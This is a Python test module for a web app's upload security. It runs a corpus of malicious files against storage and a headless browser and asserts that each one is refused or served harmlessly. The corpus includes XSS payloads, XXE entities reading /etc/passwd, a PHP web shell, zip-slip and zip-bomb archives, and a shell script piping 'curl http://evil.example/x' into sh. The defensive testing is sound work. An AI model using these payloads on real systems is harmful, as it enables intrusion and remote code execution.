"""QUALITY T16, the malicious upload corpus: on the local folder and on S3 (moto over HTTP), then in Chromium.

Every entry of the corpus is either refused (a 4xx with its reason in the ``data-upload-answer``
fragment, no row, no object) or stored under a key made of ids only and served so that nothing in it
can run on the app's origin: a server-chosen type, ``nosniff``, an attachment for anything off the
allow-list, a sandboxing CSP when the app streams it, and the store's own origin on S3. The figures
of T16 are counted over the whole corpus: 0 active files served inline on the app origin, 0 keys
derived from file names, 0 writes outside ``tenants/<tenant>/``.

The browser part opens each stored file's download and preview links in headless Chromium, with
payloads that would call ``alert(1)``, set ``document.title = 'pwned'`` and log a marker, and proves
that none of it happened (after a positive control that proves the probes would have seen it).
"""
import functools
import io
import os
import re
import struct
import threading
import time
import urllib.request
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from PIL import Image

from app.documents.filetypes import INLINE_TYPES, OCTET, display_name
from app.storage import S3Storage
from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS, DESKTOP, PLAYWRIGHT_MISSING, _unavailable, live_server  # noqa: F401
from tests.customers import make_thirdparty
from tests.documents.support import PDF, documents_of, png, upload, versions_of
from tests.helpers import PASSWORD

try:
    from playwright.sync_api import Error as PlaywrightError
except ImportError:  # _in_chromium skips (or fails under STORIA_REQUIRE_BROWSER=1)
    PlaywrightError = Exception

# What a payload does if it ever runs: each effect is watched for by the browser test.
MARKER = "storia-xss-fired"
JS = f"alert(1);document.title='pwned';console.log('{MARKER}');(window.__xss=window.__xss||[]).push(location.href);"
SCRIPT = f"<script>{JS}</script>".encode()
# Types that would run script if a browser rendered them: never sent, whatever the file is.
ACTIVE_TYPES = {"text/html", "image/svg+xml", "application/xml", "text/xml", "application/xhtml+xml", "application/javascript",
                "text/javascript", "application/ecmascript", "text/ecmascript"}
ID = "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
TIMEOUT = 5.0  # seconds any one upload may take (the pixel flood must not hang)


# --- building the hostile bytes ---------------------------------------------------------------------

def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 120, 200)).save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _pixel_flood() -> bytes:
    """A 50000×50000 RGB PNG header (7.5 GB once decoded) in front of one tiny compressed row."""
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\x00" * 4096, 9))
            + _chunk(b"IEND", b""))


def _zip(*members: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    """The same bytes every time (fixed dates), so that what is downloaded can be compared with what was sent."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info, data in members:
            info = info if isinstance(info, zipfile.ZipInfo) else zipfile.ZipInfo(info, date_time=(2026, 1, 1, 0, 0, 0))
            archive.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


@functools.cache
def _zip_bomb() -> bytes:
    """32 MiB of zeros in a ~32 KiB archive: the app must store it as it came, never expand it."""
    return _zip(("zeros.bin", b"\x00" * (32 * 1024 * 1024)))


def _symlink_zip() -> bytes:
    link = zipfile.ZipInfo("passwd-link")
    link.create_system = 3  # Unix, so that unzip honours the mode bits below
    link.external_attr = (0o120777 << 16)  # S_IFLNK | 0777
    return _zip((link, b"/etc/passwd"))


def _elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def _utf16_html() -> bytes:
    return f"\ufeff<html><body><script>{JS}</script></body></html>".encode("utf-16-le")


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    make: Callable[[], bytes]
    outcome: str  # "stored", "refused" or "either" (the NUL name: refused by the NUL guard or cleaned)
    mime: str | None = None  # what the bytes are when stored
    status: int | None = None  # the refusal's status
    shown: str | None = None  # the document's name after cleaning; default display_name(name)
    declared_type: str | None = None  # the Content-Type the multipart part claims
    max_bytes: int | None = None  # DOCUMENT_MAX_BYTES for this case only
    browser_quoting: bool = False  # send the file name quoted like Chromium does ('"' as %22)
    thumbnail: bool | None = None  # whether a thumbnail is expected (None: not checked)

    @property
    def data(self) -> bytes:
        return self.make()

    @property
    def shown_name(self) -> str:
        return self.shown if self.shown is not None else display_name(self.name)


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


HTML = "text/html"
CORPUS: tuple[Case, ...] = (
    Case("html", "page.html", _const(b"<!DOCTYPE html><html><head><title>x</title></head><body>" + SCRIPT + b"</body></html>"),
         "stored", HTML),
    Case("htm", "page.htm", _const(f'<HTML><BODY onload="{JS}"><IMG SRC=x ONERROR="{JS}"></BODY></HTML>'.encode()), "stored", HTML),
    Case("xhtml", "page.xhtml", _const(b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>' + SCRIPT
                                       + b"</body></html>"), "stored", HTML),
    Case("svg-script", "logo.svg", _const(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script>'
                                          '<circle r="5"/></svg>'.encode()), "stored", "image/svg+xml"),
    Case("xml-xxe", "data.xml", _const(b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                                       b'<r xmlns:h="http://www.w3.org/1999/xhtml">&xxe;<h:script>' + JS.encode()
                                       + b"</h:script></r>"), "stored", "application/xml"),
    Case("xml-script", "feed.xml", _const(b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                                          b'<r>&xxe;<script xmlns="http://www.w3.org/1999/xhtml">' + JS.encode() + b"</script></r>"),
         "stored", HTML),
    Case("js", "app.js", _const(JS.encode()), "stored", "text/plain"),
    Case("jpeg-html-polyglot", "photo.jpg", lambda: _jpeg() + b"<html><body>" + SCRIPT + b"</body></html>", "stored", "image/jpeg",
         thumbnail=True),
    Case("html-named-pdf", "invoice.pdf", _const(b"<html><body>" + SCRIPT + b"</body></html>"), "stored", HTML),
    Case("pdf-named-html", "report.html", _const(PDF), "stored", "application/pdf"),
    Case("php", "shell.php", _const(b"<?php system($_GET['c']); ?>"), "refused", status=415),
    Case("phar", "archive.phar", _const(b"GIF89a<html>stub</html>__HALT_COMPILER(); ?>\r\n\x00\x00"), "refused", status=415),
    Case("phar-mixed-case", "stub.pHaR", _const(b"\x00\x01stub __halt_compiler(); \x00\x00"), "refused", status=415),
    Case("gif-php-polyglot", "avatar.gif", _const(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<?= `id` ?>"), "refused", status=415),
    Case("double-extension", "invoice.pdf.exe", _const(b"MZ\x90\x00\x03" + b"\x00" * 200), "refused", status=415),
    Case("nul-in-name", "a\x00.pdf", _const(PDF), "either", "application/pdf", shown="a.pdf"),
    Case("declared-text-html", "chart.png", png, "stored", "image/png", declared_type="text/html", thumbnail=True),
    Case("empty", "empty.pdf", _const(b""), "refused", status=422),
    Case("oversize", "big.pdf", _const(PDF + b"0" * 64 * 1024), "refused", status=413, max_bytes=16 * 1024),
    Case("zip-bomb", "bomb.zip", _zip_bomb, "stored", "application/zip"),
    Case("zip-slip", "slip.zip", lambda: _zip(("../../evil.txt", b"pwned"), ("../../../../etc/cron.d/evil", b"* * * * * root id")),
         "stored", "application/zip"),
    Case("zip-symlink", "link.zip", _symlink_zip, "stored", "application/zip"),
    Case("pixel-flood", "flood.png", _pixel_flood, "stored", "image/png", thumbnail=False),
    Case("path-traversal-name", "../../etc/passwd", _const(b"root:x:0:0:root:/root:/bin/bash\n"), "stored", "text/plain",
         shown="passwd"),
    Case("xss-name", '"><img src=x onerror=alert(1)>.pdf', _const(PDF), "stored", "application/pdf", browser_quoting=True),
    Case("rtl-override-name", "invoice\u202efdp.exe", _const(PDF), "stored", "application/pdf", shown="invoicefdp.exe"),
    Case("300-char-name", "n" * 296 + ".pdf", _const(PDF), "stored", "application/pdf", shown="n" * 251 + ".pdf"),
    Case("elf", "tool", _elf, "refused", status=415),
    Case("shebang", "run.sh", _const(b"#!/bin/sh\ncurl http://evil.example/x | sh\n"), "refused", status=415),
    Case("utf16-html-named-txt", "notes.txt", _utf16_html, "stored", HTML),
    Case("script-in-txt", "readme.txt", _const(b"Hello,\nplease read this.\n" + SCRIPT + b"\n"), "stored", HTML),
)
CASES = {case.id: case for case in CORPUS}
assert len(CASES) == len(CORPUS), "case ids must be unique"
assert len({c.shown_name.lower() for c in CORPUS}) == len(CORPUS), "one document per case when the corpus shares a folder"


# --- sending and checking -------------------------------------------------------------------------

def _quoted(name: str) -> bytes:
    """A file name in a multipart header as Chromium writes it (HTML's form encoding): '"' CR LF escaped."""
    return name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A").encode()


def _send(owner, tenant, tp, case: Case):
    url = f"/{tenant.slug}/documents/customers/{tp.id}"
    if case.browser_quoting:
        boundary = uuid.uuid4().hex
        fields = {"csrf_token": owner.csrf(), "folder": "", "contact_id": "", "idempotency_key": uuid.uuid4().hex}
        body = b"".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items())
        body += (f"--{boundary}\r\n".encode() + b'Content-Disposition: form-data; name="files"; filename="' + _quoted(case.name)
                 + f'"\r\nContent-Type: {case.declared_type or OCTET}\r\n\r\n'.encode() + case.data + f"\r\n--{boundary}--\r\n".encode())
        return owner.client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}", headers={"X-Upload": "1"})
    if case.declared_type:
        data = {"folder": "", "contact_id": "", "idempotency_key": uuid.uuid4().hex,
                "files": [(io.BytesIO(case.data), case.name, case.declared_type)]}
        return owner.post(url, data, headers={"X-Upload": "1"}, content_type="multipart/form-data")
    return upload(owner, tp.id, [(case.name, case.data)], tenant_slug=tenant.slug)


def _answer(response) -> str | None:
    """The ``data-upload-answer`` fragment of an upload's answer, if there is one."""
    match = re.search(r"<div data-upload-answer>.*?</div>", response.get_data(as_text=True), re.S)
    return match.group(0) if match else None


def _fetch(response):
    """Bytes and headers as a browser ends up with them: streamed by the app, or from the presigned S3 link."""
    if response.status_code == 302:
        with urllib.request.urlopen(response.headers["Location"]) as remote:  # noqa: S310 (our moto server)
            return remote.read(), remote.headers
    return b"".join(response.response), response.headers


def _is_active(content_type: str) -> bool:
    return content_type.split(";")[0].strip().lower() in ACTIVE_TYPES


@dataclass
class Result:
    case: Case
    status: int
    seconds: float
    document_id: uuid.UUID | None = None
    version_id: uuid.UUID | None = None
    mime: str | None = None
    served: dict = field(default_factory=dict)  # action -> (disposition kind, content type, origin)

    @property
    def stored(self) -> bool:
        return self.document_id is not None

    def path(self, tenant, action: str) -> str:
        return f"/{tenant.slug}/documents/{self.document_id}/versions/{self.version_id}/{action}"


def _check_delivery(owner, tenant, storage, result: Result, action: str) -> None:
    """One download or preview: who serves it, with which disposition, type and headers."""
    response = owner.get(result.path(tenant, action))
    assert response.status_code in (200, 302), (result.case.id, action, response.status_code)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    if isinstance(storage, S3Storage):
        assert response.status_code == 302
        location = urlsplit(response.headers["Location"])
        # The store's own origin (moto here), never the app's: script there could not reach the app's session.
        assert location.scheme in ("http", "https") and location.netloc == urlsplit(storage.client.meta.endpoint_url).netloc
        assert location.hostname not in ("localhost", None)
        assert response.headers["Referrer-Policy"] == "no-referrer"
        origin = "store"
    else:
        assert response.status_code == 200
        assert "sandbox" in response.headers["Content-Security-Policy"].split(";")[0]
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        origin = "app"
    body, headers = _fetch(response)
    assert body == result.case.data
    disposition, content_type = headers["Content-Disposition"], headers["Content-Type"]
    assert "\r" not in disposition and "\n" not in disposition
    assert not _is_active(content_type), (result.case.id, action, content_type)
    if action == "preview" and result.mime in INLINE_TYPES:
        assert disposition.startswith("inline;"), (result.case.id, action, disposition)
        assert content_type.split(";")[0] == result.mime
    else:
        assert disposition.startswith("attachment;"), (result.case.id, action, disposition)
        if result.mime not in INLINE_TYPES:
            assert content_type == OCTET, (result.case.id, action, content_type)
    result.served[action] = (disposition.split(";")[0], content_type, origin)


def check_upload(app, owner, tenant, tp, storage, case: Case) -> Result:
    """Upload one corpus entry and check everything T16 asks of it; the result says what happened."""
    tenant_prefix = f"tenants/{tenant.id}/"
    keys_before = set(storage.keys(tenant_prefix))
    docs_before = {d["id"] for d in documents_of(app, tenant, tp.id)}
    saved_max = app.config["DOCUMENT_MAX_BYTES"]
    started = time.monotonic()
    try:
        if case.max_bytes is not None:
            app.config["DOCUMENT_MAX_BYTES"] = case.max_bytes
        response = _send(owner, tenant, tp, case)
    finally:
        app.config["DOCUMENT_MAX_BYTES"] = saved_max
    result = Result(case, response.status_code, time.monotonic() - started)
    assert response.status_code < 500, (case.id, response.status_code)
    assert result.seconds < TIMEOUT, (case.id, result.seconds)
    new_docs = [d for d in documents_of(app, tenant, tp.id) if d["id"] not in docs_before]
    answer = _answer(response)
    if answer:
        # Whatever is echoed back (name, message) is escaped.
        assert "<img src=x" not in answer and "<script" not in answer

    if response.status_code >= 400:
        assert case.outcome in ("refused", "either"), (case.id, response.status_code, answer)
        if case.status is not None:
            assert response.status_code == case.status, (case.id, response.status_code)
        if case.outcome == "either" and answer is None:
            assert response.status_code == 400  # the app's NUL guard, before the upload view
        else:
            assert answer and re.search(r'<p class="upload-error" role="alert">[^<]+</p>', answer), (case.id, answer)
        assert new_docs == []
        assert set(storage.keys(tenant_prefix)) == keys_before  # nothing stored, nothing left behind
        return result

    assert case.outcome in ("stored", "either"), (case.id, response.status_code, answer)
    assert response.status_code == 200 and answer and 'class="upload-ok"' in answer, (case.id, answer)
    assert len(new_docs) == 1, (case.id, new_docs)
    document = new_docs[0]
    [version] = versions_of(app, tenant, document["id"])
    result.document_id, result.version_id, result.mime = document["id"], version["id"], version["mime"]
    assert document["name"] == case.shown_name
    assert len(document["name"]) <= 255
    if case.mime:
        assert version["mime"] == case.mime, (case.id, version["mime"])
    # The type it is served with is chosen by the server from the bytes: the allow-list as itself, the rest as octets.
    allowed = {"text/plain": "text/plain; charset=utf-8"}.get(version["mime"], version["mime"])
    assert version["served_type"] == (allowed if version["mime"] in INLINE_TYPES else OCTET)
    assert version["size"] == len(case.data)  # stored as sent: an archive is never expanded
    # The key is made of ids only; the only other object an upload may write is our thumbnail.
    assert version["key"] == f"tenants/{tenant.id}/documents/{document['id']}/{version['id']}"
    assert storage.exists(version["key"])
    expected_keys = {version["key"]} | ({version["thumb"]} if version["thumb"] else set())
    assert set(storage.keys(tenant_prefix)) - keys_before == expected_keys
    if version["thumb"]:
        assert version["thumb"] == f"tenants/{tenant.id}/thumbnails/{version['id']}"
    if case.thumbnail is not None:
        assert bool(version["thumb"]) is case.thumbnail, (case.id, version["thumb"])

    for action in ("download", "preview"):
        _check_delivery(owner, tenant, storage, result, action)

    page = owner.get(f"/{tenant.slug}/documents/{document['id']}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<img src=x onerror" not in html
    if any(ch in document["name"] for ch in "<>\""):
        assert document["name"] not in html  # only ever in escaped form
    listing = owner.get(f"/{tenant.slug}/documents/customers/{tp.id}")
    assert listing.status_code == 200 and "<img src=x onerror" not in listing.get_data(as_text=True)
    return result


@dataclass(frozen=True)
class Figures:
    """QUALITY T16's figures over the objects in the store and what was served."""

    inline_active_on_app_origin: int
    keys_from_filenames: int
    writes_outside_tenant: int


def figures(storage, tenant, results: list[Result]) -> Figures:
    keys = list(storage.keys(""))
    id_key = re.compile(rf"^tenants/{tenant.id}/(documents/{ID}/{ID}|thumbnails/{ID})$")
    fragments = set()
    for result in results:
        for name in (result.case.name, result.case.shown_name):
            fragments |= {name, *(part for part in re.split(r"[/\\\x00]", name) if len(part) >= 3 and part not in ("..",))}
    from_names = [k for k in keys if not id_key.match(k) or any(f in k for f in fragments) or ".." in k]
    outside = [k for k in keys if not k.startswith(f"tenants/{tenant.id}/")]
    inline_active = sum(1 for r in results for kind, content_type, origin in r.served.values()
                        if origin == "app" and kind == "inline" and (r.mime not in INLINE_TYPES or _is_active(content_type)))
    return Figures(inline_active, len(from_names), len(outside))


# --- the tests ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("case_id", list(CASES))
def test_corpus_entry_is_refused_or_stored_harmlessly(app, tenant, owner, app_storage, case_id):
    tp = make_thirdparty(app, tenant, "Hostile Uploads Ltd")
    result = check_upload(app, owner, tenant, tp, app_storage, CASES[case_id])
    assert figures(app_storage, tenant, [result]) == Figures(0, 0, 0)


def test_xss_name_is_escaped_on_every_page(app, tenant, owner, app_storage):
    tp = make_thirdparty(app, tenant, "Hostile Uploads Ltd")
    result = check_upload(app, owner, tenant, tp, app_storage, CASES["xss-name"])
    assert result.stored
    for path in (f"/{tenant.slug}/documents/{result.document_id}", f"/{tenant.slug}/documents/customers/{tp.id}",
                 f"/{tenant.slug}/documents/?q=img", f"/{tenant.slug}/thirdparties/{tp.id}"):
        response = owner.get(path)
        assert response.status_code == 200, path
        html = response.get_data(as_text=True)
        assert "<img src=x onerror" not in html, path
    page = owner.get(f"/{tenant.slug}/documents/{result.document_id}").get_data(as_text=True)
    assert "&lt;img src=x onerror=alert(1)&gt;.pdf" in page


def test_t16_figures_over_the_whole_corpus(app, tenant, owner, app_storage):
    """The corpus in one customer's folder: the counts QUALITY T16 reports."""
    tp = make_thirdparty(app, tenant, "Hostile Uploads Ltd")
    results = [check_upload(app, owner, tenant, tp, app_storage, case) for case in CORPUS]
    stored = [r for r in results if r.stored]
    assert len(results) >= 25
    assert {r.case.id for r in results if not r.stored} >= {c.id for c in CORPUS if c.outcome == "refused"}
    assert {r.case.id for r in stored} >= {c.id for c in CORPUS if c.outcome == "stored"}
    assert len(documents_of(app, tenant, tp.id)) == len(stored)
    assert figures(app_storage, tenant, results) == Figures(inline_active_on_app_origin=0, keys_from_filenames=0,
                                                            writes_outside_tenant=0)
    # Only allow-listed types were ever inline (the preview of a PDF or an image, nothing else).
    inline = {r.case.id for r in stored for kind, _, _ in r.served.values() if kind == "inline"}
    assert all(CASES[i].mime in INLINE_TYPES for i in inline)


# --- Chromium: nothing in the corpus runs -------------------------------------------------------------
#
# The live server is tests/browser's. Chromium is not its session fixture, though: Playwright's sync API
# refuses a second instance in a thread that already runs one, and in a whole-suite run that fixture's
# browser is still open when this module runs (and this module's would be open when tests/browser runs).
# So this test drives a Chromium of its own, launched the same way, from a thread of its own, and skips
# (or fails under STORIA_REQUIRE_BROWSER=1) exactly like the fixture when Playwright or Chromium is missing.

_PROBE = "window.__xss = window.__xss || [];"
# A file the browser shows itself (image, text, PDF) has no <link rel=icon>, so Chromium asks its origin for
# /favicon.ico, a 404 on the app and on moto: on those pages only, that console line is expected.
_FAVICON_404 = "Failed to load resource: the server responded with a status of 404 "
_THREAD_SECONDS = 120


def _in_chromium(work: Callable) -> None:
    """Run ``work(browser)`` on a headless Chromium launched like tests/browser's, in a thread of its own."""
    if PLAYWRIGHT_MISSING:
        _unavailable(PLAYWRIGHT_MISSING)
    if not os.access(CHROMIUM, os.X_OK):
        _unavailable(f"{CHROMIUM} is missing (apt-get install -y chromium)")
    from playwright.sync_api import sync_playwright

    outcome: dict = {}

    def run():
        try:
            with sync_playwright() as playwright:
                try:
                    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
                except Exception as exc:
                    outcome["unavailable"] = f"Chromium did not start: {exc}"
                    return
                try:
                    work(browser)
                finally:
                    browser.close()
        except BaseException as exc:  # handed to the test's thread, which raises it
            outcome["error"] = exc

    thread = threading.Thread(target=run, name="storia-corpus-chromium", daemon=True)
    thread.start()
    thread.join(_THREAD_SECONDS)
    assert not thread.is_alive(), f"Chromium was still busy after {_THREAD_SECONDS} s"
    if "unavailable" in outcome:
        _unavailable(outcome["unavailable"])
    if "error" in outcome:
        raise outcome["error"]


def _open(page, url: str):
    """Open ``url``; "download" when the browser saved it instead of rendering it, else the response."""
    try:
        return page.goto(url, wait_until="load")
    except PlaywrightError as exc:
        if "Download is starting" in str(exc):
            return "download"
        raise


@pytest.mark.browser
def test_nothing_in_the_corpus_runs_in_chromium(app, tenant, owner, app_storage, live_server):  # noqa: F811
    tp = make_thirdparty(app, tenant, "Hostile Uploads Ltd")
    results = [check_upload(app, owner, tenant, tp, app_storage, case) for case in CORPUS]
    stored = [r for r in results if r.stored]
    assert len(stored) >= 15
    file_origin = urlsplit(app_storage.client.meta.endpoint_url if isinstance(app_storage, S3Storage) else live_server.url).netloc
    live_server.errors.clear()
    seen = {"dialogs": [], "markers": [], "problems": [], "downloads": [], "outcomes": {}, "rendered": set()}

    def work(browser):
        context = browser.new_context(base_url=live_server.url, locale="en-GB", **DESKTOP)
        try:
            context.set_default_timeout(10_000)
            page = context.new_page()
            page.on("dialog", lambda dialog: (seen["dialogs"].append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
            page.on("console", lambda message: MARKER in message.text and seen["markers"].append(page.url))
            page.on("console", lambda message: message.type == "error" and seen["problems"].append((page.url, message.text)))
            page.on("pageerror", lambda exc: seen["problems"].append((page.url, f"uncaught {exc}")))
            page.on("download", lambda download: seen["downloads"].append(download.url))
            page.add_init_script(_PROBE)

            # Positive control: the same payload in a document that may run script trips every probe.
            page.set_content("<!doctype html><title>control</title><body>" + SCRIPT.decode() + "</body>")
            assert seen["dialogs"] and seen["markers"] and page.title() == "pwned" and page.evaluate("window.__xss.length") == 1
            seen["dialogs"].clear()
            seen["markers"].clear()

            # Sign in through the real form, as tests/browser's sign_in fixture does.
            page.goto("/auth/login")
            page.locator("#email").fill(tenant.owner.email)
            page.locator("#password").fill(PASSWORD)
            with page.expect_navigation():
                page.locator("#login-form button[type=submit]").click()

            for result in stored:
                for action in ("download", "preview"):
                    opened = _open(page, live_server(result.path(tenant, action)))
                    if opened == "download":
                        seen["outcomes"][result.case.id, action] = "download"
                        continue
                    # Rendered: only an allow-listed type's preview may be, from the file's origin, script still off.
                    assert action == "preview" and result.mime in INLINE_TYPES, (result.case.id, action, opened.url)
                    assert urlsplit(page.url).netloc == file_origin, (result.case.id, page.url)
                    headers = opened.all_headers()
                    if not isinstance(app_storage, S3Storage):  # moto adds no headers of its own; the app's 302 had nosniff
                        assert headers["x-content-type-options"] == "nosniff"
                        assert headers["content-security-policy"].startswith("sandbox;")
                    assert not _is_active(headers["content-type"])
                    assert page.title() != "pwned", result.case.id
                    assert not page.evaluate("window.__xss || []"), result.case.id
                    seen["outcomes"][result.case.id, action] = "rendered"
                    seen["rendered"].add(page.url)
        finally:
            context.close()

    _in_chromium(work)
    assert not seen["dialogs"], seen["dialogs"]
    assert not seen["markers"], seen["markers"]
    outcomes = seen["outcomes"]
    assert len(outcomes) == 2 * len(stored)
    # Every attachment was saved, not shown, and came from the file's origin; only allow-listed previews rendered.
    assert all(outcome == "download" for (_, action), outcome in outcomes.items() if action == "download")
    assert all(CASES[case_id].mime in INLINE_TYPES for (case_id, _), outcome in outcomes.items() if outcome == "rendered")
    assert len(seen["downloads"]) == list(outcomes.values()).count("download")
    assert all(urlsplit(url).netloc == file_origin for url in seen["downloads"])
    problems = [f"{url}: {text}" for url, text in seen["problems"] if not (text.startswith(_FAVICON_404) and url in seen["rendered"])]
    problems += [f"[server] {error}" for error in live_server.errors]
    assert not problems, problems
